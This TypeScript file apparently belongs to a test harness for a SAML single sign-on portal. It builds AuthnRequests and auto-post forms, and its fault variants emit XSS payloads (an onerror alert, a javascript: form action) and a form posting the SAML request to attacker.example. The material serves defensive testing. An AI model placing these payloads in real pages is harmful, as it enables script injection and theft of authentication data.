import { escapeHtml } from '../http/html.js';
import type { HtmlVariant } from '../faults/faults.js';

/** A minimal SAML AuthnRequest naming the transaction (its ID) so the IdP page can find it. */
export function samlRequest(requestId: string, issuer: string, acsUrl: string, issueInstant: string): string {
  const xml =
    `<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ` +
    `xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_${requestId}" Version="2.0" ` +
    `IssueInstant="${issueInstant}" AssertionConsumerServiceURL="${escapeHtml(acsUrl)}">` +
    `<saml:Issuer>${escapeHtml(issuer)}</saml:Issuer></samlp:AuthnRequest>`;
  return Buffer.from(xml, 'utf8').toString('base64');
}

export function requestIdFrom(samlRequestBase64: string): string | undefined {
  const xml = Buffer.from(samlRequestBase64, 'base64').toString('utf8');
  return /\sID="_([0-9a-f-]{36})"/.exec(xml)?.[1];
}

/** The auto-post form the portal parses and submits (it must not inject it). */
export function autoPostForm(
  action: string,
  saml: string,
  relayState: string,
  variant?: HtmlVariant,
): string {
  const inputs =
    `<input type="hidden" name="SAMLRequest" value="${escapeHtml(saml)}">` +
    `<input type="hidden" name="RelayState" value="${escapeHtml(relayState)}">`;
  switch (variant) {
    case 'script':
      return `<html><body><form method="POST" action="${escapeHtml(action)}">${inputs}</form><script>document.forms[0].submit();</script></body></html>`;
    case 'handler':
      return `<html><body onload="document.forms[0].submit()"><form method="POST" action="${escapeHtml(action)}">${inputs}<img src="x" onerror="alert(1)"></form></body></html>`;
    case 'javascript-action':
      return `<html><body><form method="POST" action="javascript:alert(document.domain)">${inputs}</form></body></html>`;
    case 'foreign-action':
      return `<html><body><form method="POST" action="https://attacker.example/collect">${inputs}</form></body></html>`;
    default:
      return `<html><body><form method="POST" action="${escapeHtml(action)}">${inputs}<noscript><button type="submit">Continue</button></noscript></form></body></html>`;
  }
}
